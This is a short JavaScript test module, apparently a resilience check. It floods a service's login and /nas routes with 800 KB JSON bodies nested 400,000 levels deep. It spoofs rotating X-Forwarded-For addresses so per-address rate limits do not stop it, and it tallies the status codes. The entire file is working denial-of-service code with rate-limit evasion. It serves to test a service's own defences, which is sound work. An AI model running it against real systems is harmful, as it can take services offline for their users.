// Hostile input: bodies of ~800 KB nested JSON (`{"username":[[[[…]]]]}`), unauthenticated, to
// the login path (as JSON and as text/plain) and to a route that needs credentials, each from
// another forwarded address so that no per-address budget is what stops them.
import http from 'node:http';

const depth = 400_000;
const body = `{"username":${'['.repeat(depth)}${']'.repeat(depth)},"password":"x"}`;
const durationMs = 5_000;
const concurrency = 8;
const maxRequests = 2_000;

function post(url, contentType, forwardedFor) {
  return new Promise((resolve) => {
    const req = http.request(url, {
      method: 'POST',
      agent: false,
      headers: { 'content-type': contentType, 'content-length': Buffer.byteLength(body), 'x-forwarded-for': forwardedFor },
      timeout: 15_000,
    });
    req.on('response', (res) => {
      res.resume();
      res.on('end', () => resolve(res.statusCode));
    });
    req.on('timeout', () => req.destroy());
    req.on('error', () => resolve('error'));
    req.end(body);
  });
}

export async function attack(target) {
  const shapes = [
    [`${target.base}/auth/login`, 'application/json'],
    [`${target.base}/auth/login`, 'text/plain'],
    [`${target.base}/nas`, 'application/json'],
  ];
  const statuses = new Map();
  let sent = 0;
  const deadline = Date.now() + durationMs;
  const sender = async (lane) => {
    while (Date.now() < deadline && sent < maxRequests) {
      const n = sent++;
      const [url, type] = shapes[n % shapes.length];
      const status = await post(url, type, `198.18.${lane}.${n % 250}`);
      statuses.set(status, (statuses.get(status) ?? 0) + 1);
    }
  };
  await Promise.all(Array.from({ length: concurrency }, (_, lane) => sender(lane)));
  const byStatus = [...statuses].map(([status, count]) => `${count}x ${status}`).join(', ');
  return `${sent} POSTs of ${Math.round(body.length / 1024)} KB JSON nested ${depth} deep (login as JSON and text/plain, /nas without credentials), ${concurrency} at a time from rotating forwarded addresses: ${byStatus}`;
}
